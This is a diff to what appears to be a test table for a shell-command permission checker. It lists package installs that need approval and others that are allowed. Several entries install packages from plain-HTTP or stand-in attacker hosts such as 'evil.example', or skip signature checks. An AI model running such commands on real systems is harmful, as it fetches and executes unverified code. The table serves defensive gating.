@@ -60,6 +60,12 @@ const ASKED: readonly (readonly [command: string, why: string])[] = [
   ["swift package add-dependency https://github.com/a/b --branch main", "Swift"],
   ["brew install somebody/tap/x", "somebody's own list of packages"],
   ["helm repo add x http://charts.evil.example", "by plain HTTP"],
+  ["kubectl krew index add x https://github.com/a/b.git", "somebody's own list of plug-ins"],
+  ["rpm -Uvh http://x.example/x.rpm", "straight from an address"],
+  ["pacman -U https://x.example/x.pkg.tar.zst", "the same"],
+  ["rpm -i --nosignature x.rpm", "unchecked"],
+  ["yum-config-manager --add-repo=http://x.example/x.repo", "a repository of nobody's"],
+  ["choco install x --source http://x.example", "from another list"],
   ["kubectl krew install --manifest-url https://evil.example/x.yaml", "a plug-in"],
 ];
 
@@ -100,6 +106,8 @@ const ALLOWED: readonly (readonly [command: string, why: string])[] = [
   ["gh extension install github/gh-copilot", "of its makers"],
   ["brew install hashicorp/tap/terraform", "of makers people know"],
   ["helm repo add x https://charts.x.example", "projects have their own"],
+  ["choco install git", "of its own list"],
+  ["rpm -qa", "shows"],
   ["flutter pub get", "what the project lists"],
   ["dotnet nuget list source", "shows"],
   ["poetry config virtualenvs.in-project true", "a switch"],
